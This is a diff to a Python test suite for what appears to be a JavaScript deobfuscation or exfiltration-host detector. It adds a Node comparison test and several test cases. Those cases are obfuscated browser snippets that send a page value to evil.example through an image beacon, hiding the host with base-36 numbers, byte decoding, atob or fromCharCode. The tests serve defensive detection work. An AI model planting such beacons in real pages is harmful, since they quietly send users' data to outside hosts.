@@ -85,7 +85,31 @@ def test_each_function_gives_what_node_gives():
     assert computed > strings * 0.7, missed  # most are followed, not given up
 
 
+def test_numbers_spelled_in_a_radix_and_bytes_decoded_as_utf8_give_what_node_gives():
+    node = shutil.which("node")
+    assert node, "node is needed (make setup installs it)"
+    rng = random.Random(20261205)
+    numbers = [(float(rng.choice([rng.randrange(0, 2 ** 40), -rng.randrange(0, 10 ** 6), 0, 2 ** 53 - 1, 35])),
+                float(rng.choice([2, 8, 10, 16, 36, rng.randrange(2, 37)]))) for _ in range(500)]
+    blobs = [[float(rng.choice([rng.randrange(0, 128), rng.randrange(128, 256), 0xEF, 0xBB, 0xBF, 0xE2, 0x82, 0xAC, 300, -1]))
+              for _ in range(rng.randrange(0, 10))] for _ in range(500)]
+    script = (
+        "const [numbers, blobs] = JSON.parse(require('fs').readFileSync(0, 'utf8'));"
+        "process.stdout.write(JSON.stringify([numbers.map(([n, r]) => n.toString(r)),"
+        "  blobs.map((b) => new TextDecoder().decode(new Uint8Array(b)))]));"
+    )
+    done = subprocess.run([node, "-e", script], input=json.dumps([numbers, blobs]), capture_output=True, text=True, timeout=60, check=True)
+    spelled, decoded = json.loads(done.stdout)
+    assert [jsstrings.number_to_string(n, r) for n, r in numbers] == spelled
+    assert [jsstrings.utf8_decode(b) for b in blobs] == decoded
+
+
 @pytest.mark.parametrize(("script", "host"), [
+    ("new Image().src = 'https://' + (694029).toString(36) + '.example/?' + flowUi.get('a');", "evil.example"),
+    ("const b = Uint8Array.of(101, 118, 105, 108); new Image().src = `https://${new TextDecoder().decode(b)}.example/?` + flowUi.get('a');",
+     "evil.example"),
+    ("new Image().src = 'https://' + new TextDecoder('utf-8').decode(new Uint8Array([101, 118, 105, 108])) + '.example/?' + flowUi.get('a');",
+     "evil.example"),
     (f"new Image().src = atob('{base64.b64encode(b'https://evil.example/p?').decode()}') + flowUi.get('a');", "evil.example"),
     ("new Image().src = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47) + 'evil.example/p?' + flowUi.get('a');",
      "evil.example"),
